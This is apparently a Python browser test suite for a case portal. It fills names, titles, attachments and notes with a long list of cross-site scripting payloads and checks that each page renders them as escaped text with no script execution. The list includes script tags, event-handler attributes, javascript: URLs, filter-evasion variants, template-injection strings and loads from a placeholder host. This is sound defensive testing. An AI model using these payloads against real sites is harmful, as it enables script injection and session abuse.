"""Scripts in whatever people write, upload, draw and are called: shown as text on every page that shows them."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from html import escape

import pytest
from jinja2 import ChoiceLoader, DictLoader
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import Page, Route
from sqlalchemy import select
from werkzeug.serving import WSGIRequestHandler, make_server

from portal import clock
from portal.cases.models import Attachment, Case, CaseNote
from portal.edge.machine import EXTENSION
from portal.identity import service
from portal.identity.models import Organisation, Person
from portal.web.access import COOKIE
from portal.web.assets import DIST, Manifest
from tests.browser.conftest import browser
from tests.builders.pages import PASSWORD, Portal
from tests.builders.proving import Proof
from tests.builders.world import ROOT
from tests.web.test_applicant import PDF, Story

__all__ = ["browser"]

_HIT = "window.hit=1;alert(1)"
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onpageshow", "onanimationstart", "onpointerover")
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x",
    "object data=x", "select autofocus", "textarea autofocus", "marquee",
)  # fmt: skip
PAYLOADS = [
    f"<script>{_HIT}</script>", f"</title><script>{_HIT}</script>", f"</textarea><script>{_HIT}</script>",
    f"</script><script>{_HIT}</script>", f"<ScRiPt>{_HIT}</sCrIpT>", f"<script/x>{_HIT}</script>",
    f"<scr<script>ipt>{_HIT}</scr</script>ipt>", f"<<script>{_HIT}//<</script>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<math><mtext></p><script>{_HIT}</script>", "<script src=//x.example/x.js></script>", "<base href=//x.example/>",
    f"\"><script>{_HIT}</script>", f"'><script>{_HIT}</script>", f"--><script>{_HIT}</script>",
    f"]]><script>{_HIT}</script>",
    f"\" autofocus onfocus=\"{_HIT}\" x=\"", f"' autofocus onfocus='{_HIT}' x='", f"x onmouseover={_HIT} y=",
    f"javascript:{_HIT}", f"JaVaScRiPt:{_HIT}", f"java\tscript:{_HIT}", f"data:text/html,<script>{_HIT}</script>",
    f"<a href=\"javascript:{_HIT}\">x</a>", f"<a href=\"java&#10;script:{_HIT}\">x</a>",
    f"<form action=javascript:{_HIT}><button>",
    f"<iframe srcdoc=\"<script>{_HIT}</script>\">", f"<meta http-equiv=refresh content=\"0;url=javascript:{_HIT}\">",
    "<link rel=stylesheet href=//x.example/x.css>", "<style>@import '//x.example/x.css'</style>",
    "<style>*{background:url(//x.example/y)}</style>", "<p style=background:url(//x.example/z)>x",
    "<img src=//x.example/i>",
    "<div hx-get=/x hx-trigger=load>", "<div data-hx-post=/sign-out hx-trigger=load>", "<div hx-on::load=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{ 7*7 }}",
    "{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,x#x>",
    "<xss id=x tabindex=1>",
    *(f"<{tag} {event}={_HIT}>" for tag in _TAGS[:6] for event in _EVENTS[:3]),
    *(f"<{tag} {event}={_HIT}>" for tag in _TAGS[6:] for event in _EVENTS[3:5]),
]  # fmt: skip
SHORT = f"<img src=x onerror={_HIT}>"


@dataclass
class Watched:
    """A window that notes whatever a payload has achieved."""

    page: Page
    found: list[str] = field(default_factory=list)

    def visit(self, address: str) -> str:
        """Opens a page, and what it says as text."""
        answer = self.page.goto(address)
        assert answer is not None
        assert answer.status == 200, address
        self.page.wait_for_load_state("networkidle")
        self.look()
        return self.page.content()

    def look(self) -> None:
        """Notes what has happened on the page so far."""
        if self.page.evaluate("window.hit === 1"):
            self.found.append(f"ran: {self.page.url}")
        self.found += [f"{said}: {self.page.url}" for said in self.page.evaluate("window.violated || []")]


_WATCH = """
window.violated = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violated.push(event.violatedDirective + " " + event.blockedURI);
});
"""


class Tainted(Story):
    """A portal in which everything that people write and are called is a payload, served over HTTP."""

    def __init__(self, portal: Portal, address: str, chromium: Chromium) -> None:
        machine = replace(portal.machine, assets=Manifest(ROOT / DIST))
        portal.machine = portal.app.extensions[EXTENSION] = machine
        super().__init__(portal)
        self.address, self.chromium = address, chromium
        self.text = "\n".join(PAYLOADS)

    def taint(self) -> int:
        """Files a case full of payloads: its id."""
        about, _letter = self.served()
        place = self.draft(about)
        answer = self.fill(place, ("附件.pdf", PDF), grounds=self.text)
        assert answer.status_code == 303
        case = int(self.wang.post(f"{place}/check-answers").location.split("/")[3])
        with self.portal.database.transaction() as tx:
            row = tx.get_one(Case, case)
            row.title = row.status = SHORT
            for attachment in tx.scalars(select(Attachment)):
                attachment.own_name = f"{SHORT}.pdf"
            for organisation in tx.scalars(select(Organisation)):
                organisation.name = SHORT
            for person in tx.scalars(select(Person)):
                person.name = SHORT
            tx.add(
                CaseNote(
                    case_id=case, person_id=self.portal.people["li"], at=self.portal.now, text=self.text, visible=True
                )
            )
        return case

    def window(self, login: str | None) -> Watched:
        context = self.chromium.new_context(locale="zh-CN", base_url=self.address)
        if login is not None:
            with self.portal.database.transaction() as tx:
                token = service.sign_in(tx, login, PASSWORD, "127.0.0.1", clock.now())
            context.add_cookies([{"name": COOKIE, "value": str(token), "url": self.address}])
        context.add_init_script(_WATCH)
        watched = Watched(context.new_page())
        watched.page.on("dialog", lambda dialog: (watched.found.append("a dialog"), dialog.dismiss()))
        return watched


@pytest.fixture
def tainted(portal: Portal, browser: Chromium) -> Iterator[Tainted]:
    class Quiet(WSGIRequestHandler):
        def log(self, type: str, message: str, *arguments: object) -> None:
            """Says nothing."""

    server = make_server("127.0.0.1", 0, portal.app, threaded=True, request_handler=Quiet)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield Tainted(portal, f"http://127.0.0.1:{server.server_port}", browser)
    server.shutdown()
    thread.join()
    server.server_close()


def drawn_with_payloads(page: Page) -> None:
    """The diagram of a case comes with a payload in each of its names."""

    def answer(route: Route) -> None:
        got = route.fetch()
        route.fulfill(response=got, body=got.text().replace(' name="', f' name="{escape(SHORT)} '))

    page.route(re.compile(r"/cases/\d+/diagram"), answer)


def labels(page: Page) -> int:
    """Opens the diagram of a case, and counts the payloads among its labels."""
    page.goto(f"{page.url}#file-way")
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    page.locator("[data-diagram]").scroll_into_view_if_needed()
    page.wait_for_selector('[data-diagram][data-state="ready"]')
    return int(page.evaluate("document.querySelector('[data-diagram]').textContent.split('onerror').length - 1"))


def test_payloads_are_shown_as_text_and_run_nowhere(tainted: Tainted, proof: Proof) -> None:
    case = tainted.taint()
    task = tainted.portal.task("check", case)
    pages = {
        "li": (f"/cases/{case}", f"/tasks/{task}", "/inbox?view=role", "/cases"),
        "wang": (f"/my/cases/{case}", "/home", "/account"),
        None: ("/", "/notices"),
    }
    found: list[str] = []
    shown = drawn = 0
    for login, addresses in pages.items():
        window = tainted.window(login)
        if login == "li":
            drawn_with_payloads(window.page)
        for address in addresses:
            said = window.visit(address)
            shown += said.count("&lt;img src=x onerror") + said.count("&lt;script&gt;")
            drawn += labels(window.page) if address == f"/cases/{case}" else 0
            window.look()
        found += window.found
        window.page.context.close()
    assert found == []
    assert shown >= 4 * len(pages)
    assert drawn > 0
    addresses = sum(len(one) for one in pages.values())
    proof.says(
        "S15",
        "stored scripts",
        "0 alerts, 0 reports",
        payloads=len(PAYLOADS),
        pages=addresses,
        shown=shown,
        labels=drawn,
    )


@contextmanager
def trusting(portal: Portal, name: str, text: str) -> Iterator[None]:
    """A template that shows a text as if it were HTML; `text` is how it stands there, up to the name."""
    environment = portal.app.jinja_env
    source, loader = (ROOT / "portal/web/templates" / name).read_text(), environment.loader
    assert text in source
    environment.cache.clear()
    environment.loader = ChoiceLoader([DictLoader({name: source.replace(text, text + "|safe")}), loader])
    try:
        yield
    finally:
        environment.loader = loader
        environment.cache.clear()


@pytest.mark.thorough
def test_a_template_that_trusts_a_text_is_noticed(tainted: Tainted, proof: Proof) -> None:
    case = tainted.taint()
    with trusting(tainted.portal, "official/file.html", '<span class="typed">{{ line.text'):
        window = tainted.window("li")
        window.visit(f"/cases/{case}")
        window.page.context.close()
    assert window.found
    proof.catches("S15", "|safe in one template", reports=len(window.found))
